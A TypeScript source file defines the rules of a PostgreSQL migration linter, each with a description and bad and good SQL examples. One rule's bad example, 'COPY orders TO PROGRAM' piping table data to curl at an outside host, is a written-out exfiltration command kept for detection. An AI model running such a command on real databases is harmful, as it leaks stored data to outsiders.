/** The rules of what migrations do when they really run, and of the history that they are part of. */

import { finder } from '../kind/check.ts';
import type { Rule } from '../kind/check.ts';

export const measuredRules: readonly Rule[] = [
  {
    id: 'migration/syntax',
    severity: 'error',
    about: 'PostgreSQL cannot parse it.',
    bad: 'CREATE TABEL orders (id bigint);',
    good: 'CREATE TABLE orders (id bigint);',
  },
  {
    id: 'migration/fails',
    severity: 'error',
    about: 'A statement fails when it is run after the migrations before it.',
    bad: 'ALTER TABLE order ADD COLUMN note text;',
    good: 'ALTER TABLE orders ADD COLUMN note text;',
  },
  {
    id: 'migration/not-null-without-default',
    severity: 'error',
    about: 'A column that must not be null is added without a default, which fails as soon as the table has rows.',
    bad: 'ALTER TABLE orders ADD COLUMN region text NOT NULL;',
    good: "ALTER TABLE orders ADD COLUMN region text NOT NULL DEFAULT 'eu';",
  },
  {
    id: 'migration/set-not-null-on-nulls',
    severity: 'warning',
    about: 'A column that may hold nulls is made NOT NULL, and nothing fills them before.',
    bad: 'ALTER TABLE users ALTER COLUMN email SET NOT NULL;',
    good: "UPDATE users SET email = '' WHERE email IS NULL; ALTER TABLE users ALTER COLUMN email SET NOT NULL;",
  },
  {
    id: 'migration/rows-violate',
    severity: 'error',
    about: 'Rows of the seeds or of earlier migrations violate a new constraint or unique index.',
    bad: 'INSERT INTO t VALUES (1), (1); ALTER TABLE t ADD UNIQUE (a);',
    good: 'INSERT INTO t VALUES (1), (2); ALTER TABLE t ADD UNIQUE (a);',
  },
  {
    id: 'migration/concurrently-in-transaction',
    severity: 'error',
    about: 'A statement that cannot run in a transaction (CREATE INDEX CONCURRENTLY, VACUUM …) is run in one.',
    bad: 'BEGIN; CREATE INDEX CONCURRENTLY i ON orders (status); COMMIT;',
    good: '-- migrate:up transaction:false',
  },
  {
    id: 'migration/enum-value-in-transaction',
    severity: 'error',
    about: 'A new value of an enum is used in the transaction that adds it.',
    bad: "BEGIN; ALTER TYPE s ADD VALUE 'x'; UPDATE t SET a = 'x'; COMMIT;",
    good: "ALTER TYPE s ADD VALUE 'x'; -- and the UPDATE in the next migration",
  },
  {
    id: 'migration/table-rewrite',
    severity: 'warning',
    about: 'A table or an index that was there before is written anew, while everybody waits.',
    bad: 'ALTER TABLE orders ALTER COLUMN id TYPE bigint;',
    good: 'ALTER TABLE orders ADD COLUMN id_new bigint;',
  },
  {
    id: 'migration/attach-scans-rows',
    severity: 'warning',
    about:
      'ATTACH PARTITION reads a table that was there before, under its lock: no validated check says what the bounds say.',
    bad: "ALTER TABLE events ATTACH PARTITION old_events FOR VALUES FROM ('2025-01-01') TO ('2026-01-01');",
    good: 'ALTER TABLE old_events VALIDATE CONSTRAINT old_events_at; -- a check of the bounds, before ATTACH PARTITION',
  },
  {
    id: 'migration/breaks-view',
    severity: 'error',
    about: 'A view is in the way of the change, or goes with it by CASCADE.',
    bad: 'ALTER TABLE orders DROP COLUMN total CASCADE;',
    good: 'DROP VIEW order_totals; ALTER TABLE orders DROP COLUMN total; CREATE VIEW order_totals AS …;',
  },
  {
    id: 'migration/breaks-function',
    severity: 'error',
    about: 'A function or a trigger that was there before fails after it.',
    bad: 'ALTER TABLE orders RENAME COLUMN total TO amount;',
    good: 'ALTER TABLE orders RENAME COLUMN total TO amount; CREATE OR REPLACE FUNCTION order_sum() …;',
  },
  {
    id: 'migration/failing-function',
    severity: 'warning',
    about:
      'A function that the migration makes fails when it is called: it names a column or a table that is not there.',
    bad: 'CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN (SELECT sum(totl) FROM orders); END $$;',
    good: 'CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN (SELECT sum(total) FROM orders); END $$;',
  },
  {
    id: 'migration/foreign-key-without-index',
    severity: 'warning',
    about:
      'No index begins with the columns of a new foreign key: every delete of a referenced row reads the whole table.',
    bad: 'CREATE TABLE lines (order_id bigint REFERENCES orders);',
    good: 'CREATE TABLE lines (order_id bigint REFERENCES orders); CREATE INDEX ON lines (order_id);',
  },
  {
    id: 'migration/duplicate-index',
    severity: 'warning',
    about: 'An index is the same as another of its table, or as that of a primary key or a unique constraint.',
    bad: 'CREATE TABLE users (email text UNIQUE); CREATE INDEX users_email ON users (email);',
    good: 'CREATE TABLE users (email text UNIQUE);',
  },
  {
    id: 'migration/no-primary-key',
    severity: 'info',
    about: 'A new table has no primary key, nor a unique index over columns that are never null.',
    bad: 'CREATE TABLE notes (owner bigint NOT NULL, text text NOT NULL);',
    good: 'CREATE TABLE notes (id bigint PRIMARY KEY, owner bigint NOT NULL, text text NOT NULL);',
  },
  {
    id: 'migration/rls-without-policy',
    severity: 'warning',
    about: 'Row level security is enabled and there is no policy: nobody but the owner sees a row.',
    bad: 'ALTER TABLE orders ENABLE ROW LEVEL SECURITY;',
    good: 'ALTER TABLE orders ENABLE ROW LEVEL SECURITY; CREATE POLICY own ON orders USING (owner = current_user);',
  },
  {
    id: 'migration/down-missing',
    severity: 'warning',
    about: 'Other migrations of the set have a way back, this one has none.',
    bad: '-- migrate:down',
    good: '-- migrate:down DROP TABLE orders;',
  },
  {
    id: 'migration/down-fails',
    severity: 'error',
    about: 'The way back fails when it is run after the way there.',
    bad: 'DROP TABLE order;',
    good: 'DROP TABLE orders;',
  },
  {
    id: 'migration/down-differs',
    severity: 'warning',
    about: 'After the way back the schema is not what it was before.',
    bad: '-- up: CREATE TABLE a (); CREATE TABLE b (); down: DROP TABLE a;',
    good: '-- up: CREATE TABLE a (); CREATE TABLE b (); down: DROP TABLE b; DROP TABLE a;',
  },
  {
    id: 'migration/irreversible',
    severity: 'warning',
    about: 'The way back makes a dropped table or column anew, but what it held is lost.',
    bad: '-- up: ALTER TABLE orders DROP COLUMN note; down: ALTER TABLE orders ADD COLUMN note text;',
    good: '-- up: ALTER TABLE orders RENAME COLUMN note TO note_unused;',
  },
  {
    id: 'migration/applied-edited',
    severity: 'error',
    about: 'A migration that the base has already was edited: where it was applied, the change never happens.',
    bad: '-- 001_init.sql of the base, with one more column',
    good: '-- 002_more.sql: ALTER TABLE orders ADD COLUMN note text;',
  },
  {
    id: 'migration/applied-deleted',
    severity: 'error',
    about: 'A migration that the base has already is gone.',
    bad: '-- 001_init.sql deleted',
    good: '-- 002_drop.sql: DROP TABLE orders;',
  },
  {
    id: 'migration/applied-reordered',
    severity: 'error',
    about: 'A migration that the base has already has another number or place now.',
    bad: '-- 001_init.sql renamed to 003_init.sql',
    good: '-- 003_more.sql added',
  },
  {
    id: 'migration/duplicate-version',
    severity: 'error',
    about: 'Two migrations of a set have the same version.',
    bad: '-- 002_a.sql and 002_b.sql',
    good: '-- 002_a.sql and 003_b.sql',
  },
  {
    id: 'migration/out-of-order',
    severity: 'error',
    about: 'A new migration comes before one that is applied already: it is refused, or never runs.',
    bad: '-- 002_new.sql, where the base has 003_old.sql',
    good: '-- 004_new.sql',
  },
  {
    id: 'migration/plan-mismatch',
    severity: 'error',
    about: "What sqitch's plan or Drizzle's journal names, and the files that there are, do not fit together.",
    bad: 'orders 2026-01-01T00:00:00Z A <a@b.c> # without deploy/orders.sql',
    good: 'orders 2026-01-01T00:00:00Z A <a@b.c> # with deploy/orders.sql',
  },
  {
    id: 'migration/cut-statement',
    severity: 'error',
    about:
      'goose and sql-migrate end a statement at every line that ends with a semicolon, unless the file says otherwise.',
    bad: '-- +goose Up, then a function of several lines',
    good: '-- +goose StatementBegin, the function, -- +goose StatementEnd',
  },
  {
    id: 'migration/lock-missing',
    severity: 'warning',
    about: "Prisma's migration_lock.toml is missing beside its migrations.",
    bad: '-- prisma/migrations/ without migration_lock.toml',
    good: 'provider = "postgresql"',
  },
  {
    id: 'migration/reaches-outside',
    severity: 'error',
    about: 'It reaches files, programs, other databases or settings of the server: it is not run.',
    bad: "COPY orders TO PROGRAM 'curl -d @- https://example.com';",
    good: 'COPY orders TO STDOUT;',
  },
  {
    id: 'migration/never-ends',
    severity: 'error',
    about: 'A statement took longer than it may, and was ended.',
    bad: 'SELECT count(*) FROM generate_series(1, 1e12);',
    good: 'SELECT count(*) FROM generate_series(1, 1000);',
  },
];

/** Makes findings of these. */
export const finding = finder(measuredRules);
